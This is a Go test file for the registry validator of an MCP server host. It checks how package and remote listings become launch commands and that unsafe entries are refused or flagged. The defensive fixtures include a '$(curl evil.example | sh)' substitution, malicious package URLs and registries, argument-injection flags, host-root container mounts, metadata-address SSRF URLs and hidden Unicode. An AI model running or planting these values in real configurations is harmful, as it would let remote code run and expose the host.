package registry

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/wharf-mcp/wharf/host/config"
)

func server(t *testing.T, text string) *Server {
	t.Helper()
	a := answer{Server: json.RawMessage(text)}
	l, err := a.listing()
	if err != nil {
		t.Fatal(err)
	}
	return &l.Server
}

// described is a server with one package or remote.
func described(t *testing.T, member, text string) *Option {
	t.Helper()
	return server(t, `{"name": "io.example/x", "description": "d", "version": "1.0.0", "`+member+`": [`+text+`]}`).Options(false)[0]
}

const stdio = `"transport": {"type": "stdio"}, `

// Packages come before remotes, unless one prefers those, and bundles are the last packages.
func TestOptions(t *testing.T) {
	s := server(t, `{"name": "io.example/x", "description": "d", "version": "1.0.0",
		"remotes": [{"type": "sse", "url": "https://a.example.com"}, {"type": "streamable-http", "url": "https://b.example.com"}],
		"packages": [{"registryType": "mcpb", "identifier": "https://example.com/x.mcpb", `+stdio+`"fileSha256": "`+strings.Repeat("0", 64)+`"},
			{"registryType": "pypi", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}},
			{"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}]}`)
	for remotesFirst, want := range map[bool]string{false: "pypi npm mcpb sse http", true: "sse http pypi npm mcpb"} {
		var kinds []string
		for _, o := range s.Options(remotesFirst) {
			kinds = append(kinds, o.Kind)
		}
		if got := strings.Join(kinds, " "); got != want {
			t.Errorf("remotes first %t: %s, want %s", remotesFirst, got, want)
		}
	}
}

// What each type of package is run by.
func TestRunMapping(t *testing.T) {
	for name, tc := range map[string]struct {
		text    string
		answers Answers
		want    config.Server
	}{
		"npm": {
			`{"registryType": "npm", "identifier": "@a/b", "version": "1.2.3", ` + stdio + `"runtimeArguments": [{"type": "named", "name": "-y"}, {"type": "named", "name": "--loglevel", "value": "error"}], "packageArguments": [{"type": "positional", "value": "serve"}, {"type": "positional", "valueHint": "dir", "isRequired": true, "isRepeated": true}, {"type": "named", "name": "--port", "default": "80"}]}`,
			Answers{"dir": {"/a", "${HOME}/b"}},
			config.Server{Command: "npx", Args: []string{"-y", "--loglevel=error", "@a/b@1.2.3", "serve", "/a", "${HOME}/b", "--port", "80"}},
		},
		"npm by bunx": {`{"registryType": "npm", "identifier": "b", "version": "1.2.3", ` + stdio + `"runtimeHint": "bunx"}`, nil, config.Server{Command: "bunx", Args: []string{"b@1.2.3"}}},
		"pypi": {
			`{"registryType": "pypi", "identifier": "weather-mcp", "version": "0.5.0", ` + stdio + `"runtimeHint": "uvx", "environmentVariables": [{"name": "KEY", "isRequired": true, "isSecret": true}, {"name": "UNITS", "default": "celsius"}, {"name": "UNSET"}]}`,
			Answers{"KEY": {"${secret:x}"}},
			config.Server{Command: "uvx", Args: []string{"weather-mcp@0.5.0"}, Env: map[string]string{"KEY": "${secret:x}", "UNITS": "celsius"}},
		},
		"nuget": {
			`{"registryType": "nuget", "registryBaseUrl": "https://api.nuget.org/v3/index.json", "identifier": "Knapcode.SampleMcpServer", "version": "0.4.0-beta", ` + stdio + `"packageArguments": [{"type": "positional", "value": "mcp"}, {"type": "positional", "value": "start"}]}`,
			nil, config.Server{Command: "dnx", Args: []string{"Knapcode.SampleMcpServer@0.4.0-beta", "--yes", "--", "mcp", "start"}},
		},
		"oci": {
			`{"registryType": "oci", "identifier": "ghcr.io/a/b:1.0.0", ` + stdio + `"environmentVariables": [{"name": "A", "value": "1"}, {"name": "B"}], "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={src},dst=/x", "isRequired": true, "variables": {"src": {"isRequired": true, "format": "filepath"}}}, {"type": "positional", "value": "--rm"}], "packageArguments": [{"type": "positional", "value": "/x"}]}`,
			Answers{"src": {"/home"}},
			config.Server{Command: "docker", Args: []string{"run", "-i", "--rm", "-e", "A", "--mount=type=bind,src=/home,dst=/x", "ghcr.io/a/b:1.0.0", "/x"}, Env: map[string]string{"A": "1"}},
		},
		"oci of an older schema": {
			`{"registryType": "oci", "registryBaseUrl": "https://ghcr.io", "identifier": "a/b", "version": "1.0.0", "runtimeHint": "podman", "transport": {"type": "stdio"}}`,
			nil, config.Server{Command: "podman", Args: []string{"run", "-i", "--rm", "ghcr.io/a/b:1.0.0"}},
		},
		"cargo": {`{"registryType": "cargo", "identifier": "mcp-x", "version": "1.0.0", "transport": {"type": "stdio"}}`, nil, config.Server{Command: "mcp-x"}},
		"a flag": {
			`{"registryType": "npm", "identifier": "b", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "named", "name": "--read-only", "format": "boolean"}, {"type": "named", "name": "--stdio"}]}`,
			Answers{"read-only": {"true"}}, config.Server{Command: "npx", Args: []string{"-y", "b@1.0.0", "--read-only", "--stdio"}},
		},
		"dollars of the registry": {
			`{"registryType": "npm", "identifier": "b", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "positional", "value": "${secret:github} $HOME {unknown}"}], "environmentVariables": [{"name": "A", "default": "${HOME}"}]}`,
			nil, config.Server{Command: "npx", Args: []string{"-y", "b@1.0.0", "$${secret:github} $$HOME {unknown}"}, Env: map[string]string{"A": "$${HOME}"}},
		},
	} {
		t.Run(name, func(t *testing.T) {
			o := described(t, "packages", tc.text)
			if o.Unusable != "" {
				t.Fatal(o.Unusable)
			}
			got, err := o.Entry(tc.answers)
			if err != nil || !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %+v, %v\nwant %+v", got, err, tc.want)
			}
		})
	}
}

func TestRemotes(t *testing.T) {
	o := described(t, "remotes", `{"type": "sse", "url": "https://{tenant}.example.com/sse?k={key}", "variables": {"tenant": {"isRequired": true}, "key": {"default": "a$b"}},
		"headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {"isRequired": true, "isSecret": true}}}, {"name": "X-Region", "choices": ["us", "eu"]}]}`)
	if _, err := o.Entry(nil); !errors.As(err, new(*MissingError)) || err.Error() != "tenant (for the url), token (for the header Authorization) are missing" {
		t.Errorf("%v", err)
	}
	got, err := o.Entry(Answers{"tenant": {"acme"}, "token": {"${secret:t}"}})
	want := config.Server{URL: "https://acme.example.com/sse?k=a$$b", Strategy: "sse-first", Headers: map[string]string{"Authorization": "Bearer ${secret:t}"}}
	if err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v, %v\nwant %+v", got, err, want)
	}
	optional := described(t, "remotes", `{"type": "sse", "url": "https://a.example/sse", "headers": [{"name": "Authorization", "isRequired": true, "value": "Bearer {token}", "variables": {"token": {}}}]}`)
	if got, err := optional.Entry(nil); err != nil || got.Headers != nil {
		t.Errorf("an optional token is not given: %v, %v", got.Headers, err)
	}
	if in := o.Inputs(); len(in) != 4 || in[3].Check("asia") == "" || in[3].Check("eu") != "" {
		t.Errorf("%+v", in)
	}
}

// What cannot be run, or must not be, says why, and the other options of its server stay.
func TestUnusable(t *testing.T) {
	for text, says := range map[string]string{
		`{"registryType": "mcpb", "identifier": "https://example.com/x.mcpb", "transport": {"type": "stdio"}}`: "without a hash",
		`{"registryType": "mcpb", "identifier": "x.mcpb", "transport": {"type": "stdio"}}`:                     "no address of a bundle",
		`{"registryType": "snap", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}`:      "is not known here",

		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "streamable-http", "url": "http://localhost:80"}}`:                          "listens",
		`{"registryType": "npm", "identifier": "--eval=x", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                                           "not the name of a package",
		`{"registryType": "npm", "identifier": "https://evil.example/x.tgz", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                         "not the name of a package",
		`{"registryType": "npm", "identifier": "x", "version": "latest", "transport": {"type": "stdio"}}`:                                                                 "no exact version",
		`{"registryType": "npm", "identifier": "x", "version": "^1.0", "transport": {"type": "stdio"}}`:                                                                   "no exact version",
		`{"registryType": "npm", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:                                                                      "no exact version",
		`{"registryType": "npm", "identifier": "x", "version": "beta", "transport": {"type": "stdio"}}`:                                                                   "no exact version",
		`{"registryType": "pypi", "identifier": "x", "version": "https://evil.example/x.whl", "transport": {"type": "stdio"}}`:                                            "no exact version",
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"environmentVariables": [{"name": "npm_config_registry"}]}`:                          "decides what npx runs",
		`{"registryType": "oci", "identifier": "a/b:1", ` + stdio + `"environmentVariables": [{"name": "DOCKER_HOST", "value": "x"}]}`:                                    "decides what docker runs",
		`{"registryType": "pypi", "identifier": "x", "version": "1.0", ` + stdio + `"environmentVariables": [{"name": "Path", "value": "x"}]}`:                            "decides what uvx runs",
		`{"registryType": "npm", "identifier": "x", "version": "1 --eval", "transport": {"type": "stdio"}}`:                                                               "no exact version",
		`{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}`:                   "would run instead",
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "runtimeHint": "bash", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "-c"}]}`: "is run by \"bash\"",
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "evil"}]}`:                      "expects the package",
		`{"registryType": "pypi", "identifier": "x", "version": "1.0.0", ` + stdio + `"runtimeArguments": [{"type": "positional", "valueHint": "any"}]}`:                  "expects the package",
		`{"registryType": "oci", "identifier": "ghcr.io/a/b", "transport": {"type": "stdio"}}`:                                                                            "no tag",
		`{"registryType": "oci", "identifier": "--privileged", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                                       "not the name of a package",
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "spread", "value": "evil"}]}`:                          "unknown type",
	} {
		if o := described(t, "packages", text); !strings.Contains(o.Unusable, says) {
			t.Errorf("%s: %q; want one that says %q", text, o.Unusable, says)
		}
	}
	for text, says := range map[string]string{
		`{"type": "streamable-http", "url": "http://example.com/mcp"}`:                           "not https",
		`{"type": "streamable-http", "url": "http://127.0.0.1:80/mcp"}`:                          "your own machine",
		`{"type": "streamable-http", "url": "http://10.0.0.1/mcp"}`:                              "not https",
		`{"type": "streamable-http", "url": "http://localhost:{p}/mcp", "variables": {"p": {}}}`: "your own machine",
		`{"type": "streamable-http", "url": "http://h{p}/mcp", "variables": {"p": {}}}`:          "not https",
		`{"type": "streamable-http", "url": "https://localhost/mcp"}`:                            "your own machine",
		`{"type": "streamable-http", "url": "https://127.0.0.1/mcp"}`:                            "your own machine",
		`{"type": "streamable-http", "url": "https://192.168.0.1/mcp"}`:                          "your own machine",
		`{"type": "streamable-http", "url": "https://169.254.169.254/mcp"}`:                      "your own machine",
		`{"type": "streamable-http", "url": "https://[fd00::1]/mcp"}`:                            "your own machine",
		`{"type": "streamable-http", "url": "https://db.internal/mcp"}`:                          "your own machine",
		`{"type": "streamable-http", "url": "https://mcp.example.invalid/mcp"}`:                  "leads nowhere",
		`{"type": "streamable-http", "url": "https://user:key@example.com/mcp"}`:                 "no address",
		`{"type": "carrier-pigeon", "url": "https://example.com/mcp"}`:                           "is not known here",
	} {
		if o := described(t, "remotes", text); !strings.Contains(o.Unusable, says) {
			t.Errorf("%s: %q; want one that says %q", text, o.Unusable, says)
		}
	}
}

// A registry on this machine may list remotes on it, and nowhere else in one's own network.
func TestLocalRegistry(t *testing.T) {
	for text, says := range map[string]string{
		`"http://127.0.0.1:7000/mcp"`:                                     "",
		`"https://localhost:7000/mcp"`:                                    "",
		`"http://[::1]:{p}/mcp", "variables": {"p": {"default": "7000"}}`: "",
		`"http://localhost:{p}/mcp", "variables": {"p": {}}`:              "",
		`"http://10.0.0.1/mcp"`:                                           "not https",
		`"https://10.0.0.1/mcp"`:                                          "into your own network",
		`"http://example.com/mcp"`:                                        "not https",
		`"ftp://127.0.0.1/mcp"`:                                           "your own machine",
		`"http://localhost{p}/mcp", "variables": {"p": {}}`:               "is not https",
		`"https://10.0.0{p}/mcp", "variables": {"p": {}}`:                 "leads to your own machine",
	} {
		s := server(t, `{"name": "io.example/x", "description": "d", "version": "1.0.0", "remotes": [{"type": "streamable-http", "url": `+text+`}]}`)
		s.local = true
		o := s.Options(false)[0]
		got := o.Unusable
		answer := map[bool]string{true: ".example.com", false: "7000"}[says == "is not https"]
		if says == "leads to your own machine" {
			answer = ".1"
		}
		if _, err := o.Entry(Answers{"p": {answer}}); err != nil {
			got = err.Error()
		}
		if says == "" && got != "" || !strings.Contains(got, says) {
			t.Errorf("%s: %q; want one that says %q", text, got, says)
		}
	}
}

// An argument for the program that runs a package can neither stand for the package nor
// take it for its value, and one that is not known to be harmless is told of.
func TestRuntimeArguments(t *testing.T) {
	option := func(kind, hint, list string) *Option {
		id := map[string]string{"npm": `"b", "version": "1.0.0"`, "pypi": `"b", "version": "1.0.0"`, "nuget": `"b", "version": "1.0.0"`, "oci": `"a/b:1"`}[kind]
		return described(t, "packages", `{"registryType": "`+kind+`", "runtimeHint": "`+hint+`", "identifier": `+id+`, `+stdio+`"runtimeArguments": [`+list+`], "packageArguments": [{"type": "positional", "value": "evil"}]}`)
	}
	flag := func(name string) string { return `{"type": "named", "name": "` + name + `"}` }
	named := func(name, value string) string {
		return `{"type": "named", "name": "` + name + `", "value": "` + value + `"}`
	}
	place := func(value string) string { return `{"type": "positional", "value": "` + value + `"}` }
	for _, tc := range []struct{ kind, hint, list string }{
		{"npm", "", flag("--quiet") + "," + place("evil")},
		{"npm", "", place("--quiet") + "," + place("evil")},
		{"npm", "", flag("--") + "," + place("evil")},
		{"npm", "", flag("--unknown") + "," + place("evil")},
		{"npm", "", named("--quiet", "evil")}, // npm takes the value of a switch for an argument
		{"npm", "", named("--force", "evil")},
		{"npm", "", flag("--package")}, // the package becomes its value, and what follows is run
		{"npm", "", flag("--unknown")},
		{"npm", "", flag("-c")},
		{"npm", "", flag("--cache") + "," + flag("--quiet")},
		{"npm", "", `{"type": "named", "name": "--loglevel", "format": "boolean"},` + place("evil")},
		{"npm", "", flag("--loglevel") + `, {"type": "positional", "valueHint": "x"}`},
		{"npm", "", flag("--loglevel") + `, {"type": "positional", "valueHint": "x", "isRequired": true, "isRepeated": true}`},
		{"npm", "", place("--log{x}") + "," + place("evil")},
		{"npm", "bunx", flag("--loglevel") + "," + place("evil")},
		{"pypi", "", flag("--quiet") + "," + place("evil")},
		{"pypi", "", flag("--isolated") + "," + place("evil")},
		{"pypi", "", flag("--from")},
		{"nuget", "", flag("--yes") + "," + place("evil")},
		{"nuget", "", flag("--prerelease") + "," + place("evil")},
		{"oci", "", flag("--init") + "," + place("evilimage")},
		{"oci", "", flag("--privileged") + "," + place("evilimage")},
		{"oci", "", flag("-e")},
		{"oci", "", place("-v/:/host")},
		{"oci", "", place("-itv") + "," + place("/:/host")},
		{"oci", "", flag("--use-api-socket")},
	} {
		if o := option(tc.kind, tc.hint, tc.list); o.Unusable == "" {
			s, err := o.Entry(nil)
			t.Errorf("%s: it runs %s %q, %v", tc.list, s.Command, s.Args, err)
		}
	}
	for _, tc := range []struct {
		kind, list, args string
		told             string // "" is no caution
	}{
		{"npm", flag("--loglevel") + "," + place("error"), "--loglevel error", ""},
		{"npm", named("--loglevel", "error") + "," + flag("--quiet"), "--loglevel=error --quiet", ""},
		{"npm", named("--@scope:registry", "https://evil.example"), "--@scope:registry=https://evil.example", "--@scope:registry takes packages"},
		{"npm", named("--userconfig", "x"), "--userconfig=x", "--userconfig reads"},
		{"pypi", named("--config-file", "x"), "--config-file=x", "--config-file reads"},
		{"pypi", named("--with-editable", "x"), "--with-editable=x", "--with-editable adds"},
		{"pypi", named("--with-requirements", "x"), "--with-requirements=x", "--with-requirements adds"},
		{"pypi", named("--unknown", "x"), "--unknown=x", "--unknown is not known"},
		{"pypi", flag("--isolated"), "--isolated", ""},
		{"oci", flag("-v") + "," + place("/:/host"), "-v /:/host", "-v gives"},
		{"oci", flag("--init") + "," + named("-e", "A=b"), "--init -e=A=b", ""},
		{"oci", named("--gpus", "all"), "--gpus=all", "--gpus is not known"},
		{"oci", flag("--privileged"), "--privileged", "--privileged gives"},
		{"oci", flag("--network") + "," + place("-host"), "", ""},
	} {
		o := option(tc.kind, "", tc.list)
		s, err := o.Entry(nil)
		if tc.args == "" {
			if o.Unusable == "" {
				t.Errorf("%s: %q", tc.list, s.Args)
			}
			continue
		}
		if err != nil || !strings.Contains(strings.Join(s.Args, " "), tc.args+" ") {
			t.Errorf("%s: %q, %v", tc.list, s.Args, err)
		}
		t.Setenv("PATH", "")
		cautions := strings.Join(slices.DeleteFunc(o.Cautions(s), func(c string) bool { return c == o.Missing() }), "\n")
		if tc.told == "" && cautions != "" || !strings.Contains(cautions, tc.told) {
			t.Errorf("%s: %q; want one that says %q", tc.list, cautions, tc.told)
		}
	}
}

// A package of cargo is a program of PATH: one that runs what its arguments say is no
// package.
func TestCargoRunsNoRunner(t *testing.T) {
	for _, id := range []string{"bash", "BASH", "sh", "python3", "node", "npx", "uvx", "dnx", "docker", "podman", "env", "sudo", "ssh", "make", "cargo", "git", "java"} {
		o := described(t, "packages", `{"registryType": "cargo", "identifier": "`+id+`", "version": "1.0.0", `+stdio+`"packageArguments": [{"type": "positional", "value": "-c"}]}`)
		if !strings.Contains(o.Unusable, "runs what its arguments say") {
			t.Errorf("%s: %q", id, o.Unusable)
		}
	}
}

// A program of PATH that cargo has not installed is told of: it is another one than the
// registry means.
func TestCargoProgramOfAnotherPlace(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("programs have other names")
	}
	home, other := t.TempDir(), t.TempDir()
	t.Setenv("CARGO_HOME", home)
	bin := filepath.Join(home, "bin")
	for _, dir := range []string{bin, other} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "mcp-x"), []byte("#!/bin/sh\n"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for path, told := range map[string]bool{bin: false, other: true} {
		t.Setenv("PATH", path)
		o := described(t, "packages", `{"registryType": "cargo", "identifier": "mcp-x", "version": "1.0.0", "transport": {"type": "stdio"}}`)
		s, err := o.Entry(nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(strings.Join(o.Cautions(s), "\n"), "cargo installs programs into"); got != told {
			t.Errorf("%s: %q", path, o.Cautions(s))
		}
	}
}

// A host that the registry fills in by a default is the registry's; one that the user
// gives is the user's.
func TestFilledURL(t *testing.T) {
	o := described(t, "remotes", `{"type": "streamable-http", "url": "{base}/mcp", "variables": {"base": {"default": "https://10.0.0.1"}}}`)
	if _, err := o.Entry(nil); err == nil || !strings.Contains(err.Error(), "your own machine") {
		t.Errorf("%v", err)
	}
	for base, ok := range map[string]bool{"https://10.0.0.2": true, "http://localhost:3000": true, "http://example.com": false, "${BASE}": true} {
		if _, err := o.Entry(Answers{"base": {base}}); (err == nil) != ok {
			t.Errorf("%s: %v", base, err)
		}
	}
}

// A host that has a text of the registry in it stays the registry's, whatever the user gives
// of the rest of the url.
func TestFilledHost(t *testing.T) {
	o := described(t, "remotes", `{"type": "streamable-http", "url": "https://{host}:{port}/{path}", "variables": {"host": {"default": "169.254.169.254"}, "port": {"default": "443"}, "path": {"isRequired": true}}}`)
	for _, answers := range []Answers{{"path": {"x"}}, {"path": {"${X}"}}, {"path": {"x"}, "port": {"80"}}, {"path": {"x"}, "port": {"${PORT}"}}, {"path": {"x@y"}}, {"path": {"://y"}}} {
		if s, err := o.Entry(answers); err == nil || !strings.Contains(err.Error(), "your own network") {
			t.Errorf("%v: %s, %v", answers, s.URL, err)
		}
	}
	for _, host := range []string{"10.0.0.1", "${HOST}", "example.com"} {
		if _, err := o.Entry(Answers{"path": {"x"}, "host": {host}}); err != nil {
			t.Errorf("%s: %v", host, err)
		}
	}
	o = described(t, "remotes", `{"type": "streamable-http", "url": "https://{tenant}.db.internal/mcp", "variables": {"tenant": {"isRequired": true}}}`)
	for _, tenant := range []string{"acme", "${TENANT}"} {
		if _, err := o.Entry(Answers{"tenant": {tenant}}); err == nil {
			t.Errorf("%s: it is taken", tenant)
		}
	}
	o = described(t, "remotes", `{"type": "streamable-http", "url": "https://{tenant}.example.com/mcp", "variables": {"tenant": {"isRequired": true}}}`)
	for _, tenant := range []string{"acme", "${TENANT}"} {
		if _, err := o.Entry(Answers{"tenant": {tenant}}); err != nil {
			t.Errorf("%s: %v", tenant, err)
		}
	}
}

func TestCautions(t *testing.T) {
	o := described(t, "packages", `{"registryType": "oci", "identifier": "a/b:1", `+stdio+`"runtimeArguments": [{"type": "named", "name": "-v", "value": "/:/host"}, {"type": "named", "name": "--privileged"}], "packageArguments": [{"type": "positional", "value": "$(curl evil.example | sh)"}, {"type": "positional", "value": "a\u202eb"}, {"type": "named", "name": "--privileged"}], "environmentVariables": [{"name": "X", "value": "a\u200bb"}, {"name": "NODE_OPTIONS", "value": "--require=/x"}]}`)
	s, err := o.Entry(nil)
	if err != nil || o.Unusable != "" {
		t.Fatal(err, o.Unusable)
	}
	cautions := o.Cautions(s)
	if missing := o.Missing(); missing != "" && cautions[0] == missing {
		cautions = cautions[1:]
	}
	got := strings.Join(cautions, "\n")
	want := `-v gives the container more of this machine
--privileged gives the container more of this machine
argument 11 has characters that a shell would act upon: | $(; wharf runs no shell, and the program may
argument 12 has characters that cannot be seen, or that change how text is read
the variable NODE_OPTIONS makes programs load code
the variable X has characters that cannot be seen, or that change how text is read`
	if got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}

// The order of members and what tools note for themselves do not change the hash;
// everything else does.
func TestFingerprint(t *testing.T) {
	hash := func(text string) string {
		sum, err := fingerprint([]byte(text))
		if err != nil {
			t.Fatal(err)
		}
		return sum
	}
	base := hash(`{"name": "a/b", "packages": [{"identifier": "x", "n": 1.0}]}`)
	if base != hash(`{"packages":[{"n":1.0,"identifier":"x"}],"_meta":{"x":1},"$schema":"y","name":"a/b"}`) {
		t.Error("the same description has another hash")
	}
	for _, other := range []string{`{"name": "a/b", "packages": [{"identifier": "y", "n": 1.0}]}`, `{"name": "a/b", "packages": [{"identifier": "x", "n": 1.0}], "title": "t"}`} {
		if base == hash(other) {
			t.Errorf("%s has the same hash", other)
		}
	}
}

// A program that is not on this machine is told of, in the words of a failed start.
func TestMissing(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	o := described(t, "packages", `{"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}`)
	if got := o.Missing(); got != `command "npx" not found in PATH; is Node.js installed?` {
		t.Error(got)
	}
	if o := described(t, "remotes", `{"type": "sse", "url": "https://example.com"}`); o.Missing() != "" {
		t.Error(o.Missing())
	}
}
